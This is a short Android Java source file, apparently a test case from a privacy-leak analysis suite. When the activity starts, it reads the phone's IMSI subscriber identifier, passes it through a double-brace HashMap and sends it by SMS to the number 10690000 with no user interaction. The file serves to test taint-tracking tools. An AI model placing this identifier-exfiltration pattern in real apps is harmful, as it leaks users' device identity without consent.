package cn.privlens.suite.map_in_braces;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.util.HashMap;
import java.util.Map;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        final String imsi = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getSubscriberId();
        Map<String, String> m = new HashMap<String, String>() {{
            put("s", imsi);
            put("t", "text");
        }};
        SmsManager.getDefault().sendTextMessage("10690000", null, m.get("s"), null, null);
    }
}
